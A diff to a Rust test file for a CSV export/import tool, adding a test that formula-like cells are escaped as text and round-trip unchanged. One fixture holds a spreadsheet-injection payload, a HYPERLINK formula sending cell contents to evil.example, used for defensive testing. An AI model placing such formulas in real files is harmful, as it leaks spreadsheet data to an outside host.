@@ -33,6 +33,20 @@ fn run(args: &[&str]) -> (i32, String) {
     )
 }
 
+/// Runs `import MEMBERS --initiatives LIST --out OUT`, and fails unless it succeeds.
+fn import_tables(members: &Path, list: &Path, out: &Path) {
+    let path = |p: &Path| p.to_str().expect("UTF-8").to_owned();
+    let (code, printed) = run(&[
+        "import",
+        &path(members),
+        "--initiatives",
+        &path(list),
+        "--out",
+        &path(out),
+    ]);
+    assert_eq!(code, 0, "{printed}");
+}
+
 #[test]
 fn the_bundled_data_exported_as_two_tables_imports_back_as_the_same_initiatives() {
     let folder = temp_folder();
@@ -44,15 +58,7 @@ fn the_bundled_data_exported_as_two_tables_imports_back_as_the_same_initiatives(
     let path = |p: &Path| p.to_str().expect("UTF-8").to_owned();
     assert_eq!(run(&["export-list", "--out", &path(&list)]).0, 0);
     assert_eq!(run(&["export-members", "--out", &path(&members)]).0, 0);
-    let (code, printed) = run(&[
-        "import",
-        &path(&members),
-        "--initiatives",
-        &path(&list),
-        "--out",
-        &path(&imported),
-    ]);
-    assert_eq!(code, 0, "{printed}");
+    import_tables(&members, &list, &imported);
 
     let world = WorldData::bundled().expect("world").world;
     let original = bundled::dataset(&world).expect("bundled");
@@ -312,4 +318,79 @@ fn an_initiative_named_in_another_script_is_asked_for_an_id_not_merged() {
         printed.contains("row 2, column Initiative: \"Зелёный пакт\" gives no id"),
         "{printed}"
     );
+}
+
+#[test]
+fn a_cell_that_would_run_as_a_formula_is_exported_as_text_and_imports_back_as_written() {
+    let folder = temp_folder();
+    let world = WorldData::bundled().expect("world").world;
+    let mut dataset = bundled::dataset(&world).expect("bundled");
+    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    let oslo = dataset.index_of("oslo-accords").expect("oslo");
+    let notes = [
+        hostile,
+        "+1",
+        "-2 in the count",
+        "@SUM(A1)",
+        "'=kept as typed",
+    ];
+    for (actor, note) in dataset.initiatives[oslo].actors.iter_mut().zip(notes) {
+        actor.note = Some(note.to_owned());
+    }
+    dataset.initiatives[oslo].name = "=1+1".to_owned();
+    let (data, list, members, imported) = (
+        temp(&folder, "data.json"),
+        temp(&folder, "list.csv"),
+        temp(&folder, "members.csv"),
+        temp(&folder, "back.json"),
+    );
+    std::fs::write(&data, dataset.to_json().expect("it serialises")).expect("write");
+    let path = |p: &Path| p.to_str().expect("UTF-8").to_owned();
+    let data_arg = path(&data);
+    assert_eq!(
+        run(&["export-list", "--data", &data_arg, "--out", &path(&list)]).0,
+        0
+    );
+    assert_eq!(
+        run(&[
+            "export-members",
+            "--data",
+            &data_arg,
+            "--out",
+            &path(&members)
+        ])
+        .0,
+        0
+    );
+    // No cell of either table starts as a formula: a spreadsheet shows each as text.
+    for table in [&list, &members] {
+        let text = std::fs::read_to_string(table).expect("written");
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        for record in reader.records() {
+            for cell in record.expect("a row").iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{}: {cell:?}",
+                    table.display()
+                );
+            }
+        }
+    }
+    let text = std::fs::read_to_string(&members).expect("written");
+    assert!(text.contains("'=HYPERLINK"), "{text}");
+
+    import_tables(&members, &list, &imported);
+    let back = Dataset::load(&imported, &world)
+        .expect("the import loads")
+        .dataset;
+    let again = back.by_id("oslo-accords").expect("it comes back");
+    assert_eq!(again.name, "=1+1");
+    let notes_of = |i: &microlateral_atlas::data::Initiative| -> BTreeSet<String> {
+        i.actors
+            .iter()
+            .filter(|a| a.actor.state_code().is_some())
+            .filter_map(|a| a.note.clone())
+            .collect()
+    };
+    assert_eq!(notes_of(again), notes_of(&dataset.initiatives[oslo]));
 }
